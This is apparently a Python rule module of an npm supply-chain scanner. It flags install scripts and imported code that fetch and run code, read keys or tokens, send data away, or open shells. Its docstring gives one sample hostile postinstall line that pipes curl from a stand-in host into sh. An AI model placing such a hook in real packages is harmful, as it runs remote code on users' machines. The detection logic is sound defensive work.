"""A package's code does what honest packages have no reason to do.

Reads what an install runs (the scripts, binding.gyp, and the files of the package that they start), and
looks over all other code. Told are, on install: downloading and running something, decoding and evaluating,
reading keys, tokens, wallets or the whole environment, sending data away, starting another runtime or a
bundled program, writing outside the package, arranging to be started again, publishing, hiding all that. In
code that merely lies there: obfuscation, invisible characters, decoded or downloaded text that is evaluated,
shells that listen. Minified code is ordinary; so is an installer that downloads the binary that its package
is about.

Why it matters
    eslint-scope 3.7.2 downloaded a text and evaluated it (2018). ua-parser-js 0.7.29 downloaded a miner and
    started it (2021). The Shai-Hulud worm searched for tokens and published itself with them; its second wave
    installed the Bun runtime to run ten megabytes of obfuscated code (2025). chalk and debug got one line of
    obfuscated code that exchanged payment addresses (2025). All of it stood in the tarball, for everybody to
    read, hours before there was an advisory.

Bad
    "postinstall": "curl -s https://collect.example.test/s | sh"

Good
    "install": "node-gyp rebuild"

How to fix
    Do not install it: stay on the release before it, and look at the places that are named. If it has been
    installed, hold every token and key for stolen that this machine could read. If you know the code and
    trust it, note that: an [[ignore]] with the reason in npmguard.toml.
"""

from __future__ import annotations

from collections.abc import Collection, Iterable, Iterator
from typing import NamedTuple

from npmguard import text
from npmguard.model import (
    CodeFacts,
    Confidence,
    Deed,
    Evidence,
    Finding,
    Fix,
    Kind,
    Project,
    Severity,
)
from npmguard.rules import held, lineage, opening, places
from npmguard.rules.base import Rule
from npmguard.settings import Settings

_SHOWN = 4  # deeds in one detail


class Sign(NamedTuple):
    """Kinds that together mean something, and how it is said."""

    kinds: tuple[Kind, ...]
    severity: Severity
    says: str


# What an install does: the first that holds gives the title. Every sign's kinds must all be there.
INSTALL = (
    Sign((Kind.OPENS_SHELL,), Severity.CRITICAL, "opens a shell over the network"),
    Sign((Kind.DESTROYS,), Severity.CRITICAL, "wipes files that are not its own"),
    Sign((Kind.CREDENTIALS, Kind.PUBLISHES), Severity.CRITICAL, "reads keys and publishes"),
    Sign((Kind.TOKENS, Kind.PUBLISHES), Severity.CRITICAL, "reads tokens and publishes"),
    Sign((Kind.CREDENTIALS, Kind.SENDS), Severity.CRITICAL, "reads keys and sends data away"),
    Sign((Kind.ENVIRONMENT, Kind.SENDS), Severity.CRITICAL, "sends the environment away"),
    Sign((Kind.CREDENTIALS, Kind.IDENTITY), Severity.CRITICAL, "reads keys and sends data away"),
    Sign((Kind.OBFUSCATED, Kind.RUNTIME), Severity.CRITICAL, "starts another runtime on obfuscated code"),
    Sign((Kind.INVISIBLE,), Severity.HIGH, "runs code that nobody sees"),
    Sign((Kind.EVALUATES_FETCHED,), Severity.HIGH, "downloads code and runs it"),
    Sign((Kind.DECODES,), Severity.HIGH, "decodes code and runs it"),
    Sign((Kind.OBFUSCATED,), Severity.HIGH, "runs obfuscated code"),
    Sign((Kind.MODELS,), Severity.HIGH, "runs a command-line assistant"),
    Sign((Kind.CREDENTIALS,), Severity.HIGH, "reads keys"),
    Sign((Kind.TOKENS, Kind.SENDS), Severity.HIGH, "reads tokens and sends data away"),
    Sign((Kind.ENVIRONMENT, Kind.FETCHES), Severity.HIGH, "reads the whole environment and uses the network"),
    Sign((Kind.IDENTITY,), Severity.HIGH, "sends the names of user or machine away"),
    Sign((Kind.PUBLISHES,), Severity.HIGH, "publishes"),
    Sign((Kind.PERSISTS, Kind.OUTSIDE), Severity.HIGH, "arranges to be started again"),
    Sign((Kind.PERSISTS, Kind.TOKENS), Severity.HIGH, "reads tokens and arranges to be started again"),
    Sign((Kind.PERSISTS, Kind.HIDES), Severity.HIGH, "arranges to be started again, unseen"),
    Sign((Kind.BUNDLED,), Severity.HIGH, "starts a program that the package brings"),
    Sign((Kind.HIDES, Kind.RUNS_FETCHED), Severity.HIGH, "downloads a program and runs it unseen"),
    Sign((Kind.HIDES, Kind.RUNTIME), Severity.HIGH, "starts another runtime unseen"),
    Sign(
        (Kind.UNTRUSTS, Kind.RUNS_FETCHED),
        Severity.HIGH,
        "downloads a program from whoever answers, and runs it",
    ),
    Sign((Kind.OTHERS, Kind.FETCHES), Severity.HIGH, "downloads, and writes to other packages"),
    Sign((Kind.HIDES, Kind.FETCHES), Severity.MODERATE, "uses the network unseen"),
    Sign((Kind.OTHERS,), Severity.MODERATE, "writes to other packages"),
    Sign((Kind.INSTALLS, Kind.HIDES), Severity.MODERATE, "installs more, unseen"),
    Sign((Kind.PERSISTS,), Severity.MODERATE, "may arrange to be started again"),
    Sign((Kind.UNTRUSTS,), Severity.MODERATE, "turns the checking of certificates off"),
    Sign((Kind.SENDS,), Severity.MODERATE, "sends data away"),
    Sign((Kind.LOCATES,), Severity.MODERATE, "asks where in the world it is"),
    Sign((Kind.RUNS_FETCHED,), Severity.LOW, "downloads a program and runs it"),
    Sign((Kind.EVALUATES,), Severity.LOW, "evaluates texts"),
    Sign((Kind.OUTSIDE,), Severity.LOW, "writes outside the package"),
    Sign((Kind.INSTALLS,), Severity.LOW, "installs more"),
    Sign((Kind.RUNTIME,), Severity.LOW, "starts another runtime"),
)
# What code does that merely lies in a package, and acts when it is imported.
IMPORT = (
    Sign((Kind.OPENS_SHELL,), Severity.CRITICAL, "has code that opens a shell over the network"),
    Sign((Kind.DESTROYS,), Severity.CRITICAL, "has code that wipes files that are not its own"),
    Sign((Kind.CREDENTIALS, Kind.SENDS), Severity.HIGH, "has code that reads keys and sends data away"),
    Sign((Kind.CREDENTIALS, Kind.IDENTITY), Severity.HIGH, "has code that reads keys and sends data away"),
    Sign((Kind.ENVIRONMENT, Kind.SENDS), Severity.HIGH, "has code that sends the environment away"),
    Sign((Kind.HANGS,), Severity.HIGH, "has code that never comes to an end"),
    Sign((Kind.INVISIBLE,), Severity.HIGH, "has code that nobody sees"),
    Sign((Kind.EVALUATES_FETCHED,), Severity.HIGH, "has code that downloads code and runs it"),
    Sign((Kind.DECODES,), Severity.HIGH, "has code that decodes code and runs it"),
    Sign((Kind.OBFUSCATED,), Severity.HIGH, "has obfuscated code"),
    Sign((Kind.MODELS,), Severity.HIGH, "has code that runs a command-line assistant"),
    Sign(
        (Kind.HIDES, Kind.RUNS_FETCHED), Severity.HIGH, "has code that downloads a program and runs it unseen"
    ),
    Sign((Kind.CREDENTIALS, Kind.PUBLISHES), Severity.HIGH, "has code that reads keys and publishes"),
    Sign((Kind.TOKENS, Kind.PUBLISHES), Severity.LOW, "has code that reads tokens and publishes"),
    Sign((Kind.PERSISTS, Kind.PUBLISHES), Severity.LOW, "has code that writes workflows and publishes"),
)


def judged(facts: CodeFacts, before: CodeFacts | None = None) -> list[tuple[Severity, str, str]]:
    """(severity, the end of a title, detail) of what a package's code does: at most one on either side.

    `before` are the facts of the release before it, where they are known: what that did in the same words
    already is no sign of an attack, and is told one step lower, `moderate` at most.
    """
    found = []
    known = {(deed.kind, deed.what) for deed in (*before.installs, *before.imports)} if before else set()
    for deeds, signs, on in ((facts.installs, INSTALL, " on install"), (facts.imports, IMPORT, "")):
        held = list(_held(deeds, signs, facts if on else None))
        if not held:
            continue
        first = held[0]
        telling = [deed for sign in held for kind in sign.kinds for deed in deeds if deed.kind is kind]
        telling = list(dict.fromkeys(telling))
        severity = first.severity
        if telling and all((deed.kind, deed.what) in known for deed in telling):
            severity = min(Severity(max(severity - 1, Severity.LOW)), Severity.MODERATE)
        found.append((severity, first.says + on, _detail(telling, facts, bool(on))))
    return found


def _held(deeds: Collection[Deed], signs: Iterable[Sign], facts: CodeFacts | None) -> Iterator[Sign]:
    """The signs that hold, the most serious first; `facts` where it is an install."""
    kinds = {deed.kind for deed in deeds}
    held = [sign for sign in signs if kinds.issuperset(sign.kinds)]
    if facts is not None:
        if any(deed.kind is Kind.HIDES and deed.path == "binding.gyp" for deed in deeds):
            held.append(Sign((Kind.HIDES,), Severity.HIGH, "hides a command in binding.gyp"))
        if any(
            bulk.path in facts.started and bulk.kind != "minified" for bulk in facts.bulky
        ) and not kinds & {Kind.OBFUSCATED}:
            held.append(Sign((), Severity.MODERATE, "runs a large file that nobody can read"))
        if any(bulk.path in facts.started and bulk.kind == "minified" for bulk in facts.bulky):
            held.append(Sign((), Severity.LOW, "runs a large minified file"))
        if facts.missing and facts.commands:
            held.append(Sign((), Severity.LOW, "starts a file that the package does not hold"))
    yield from sorted(held, key=lambda sign: -sign.severity)


def _detail(deeds: list[Deed], facts: CodeFacts, install: bool) -> str:
    """The evidence: where, and what."""
    parts = []
    if install and facts.commands:
        commands = "; ".join(f"{name}: {text.one_line(command, 120)}" for name, command in facts.commands)
        parts.append(f"It runs {commands}.")
    shown = _spread(deeds)
    parts += [f"{text.one_line(d.path, 100)}:{d.line} {text.one_line(d.what, 200)}." for d in shown]
    if len(deeds) > len(shown):
        parts.append(f"And {len(deeds) - len(shown)} more.")
    if install:
        bulky = [bulk for bulk in facts.bulky if bulk.path in facts.started]
        parts += [f"{text.one_line(b.path, 100)} is {b.kind}, {text.size(b.size)}." for b in bulky[:2]]
        if facts.missing:
            parts.append(
                f"Not in the package: {text.some((text.one_line(p, 100) for p in facts.missing), 3)}."
            )
    return " ".join(parts)


def _spread(deeds: list[Deed]) -> list[Deed]:
    """A few of the deeds, one of each kind before a second of any."""
    first: dict[Kind, Deed] = {}
    for deed in deeds:
        first.setdefault(deed.kind, deed)
    chosen = list(first.values())[:_SHOWN]
    chosen += [deed for deed in deeds if deed not in chosen][: _SHOWN - len(chosen)]
    return chosen


def check(project: Project, evidence: Evidence, settings: Settings) -> Iterator[Finding]:
    for package, keys, contents, older in held.read(project, evidence, settings):
        before = older.code if older is not None else None
        for severity, title, detail in judged(contents.code, before):
            fix, words = (Fix("review"), "")
            line = held.line(evidence, package, keys) if severity >= Severity.HIGH else None
            if line is not None:
                fix, words = lineage.back(project, line)
            yield Finding(
                "suspicious-script",
                severity,
                f"{package.label} {title}",
                f"{detail} {words}".rstrip(),
                Confidence.MEDIUM if severity < Severity.CRITICAL else Confidence.HIGH,
                package=package.name,
                version=package.version,
                fix=fix,
                location=places.locked(project, package),
                keys=keys,
                subject=title,
            )


RULE = Rule(
    "suspicious-script",
    "install scripts",
    Severity.HIGH,
    "A package's code does what honest packages have no reason to do.",
    __doc__ or "",
    check,
    opening.needs,
    opening.then,
)
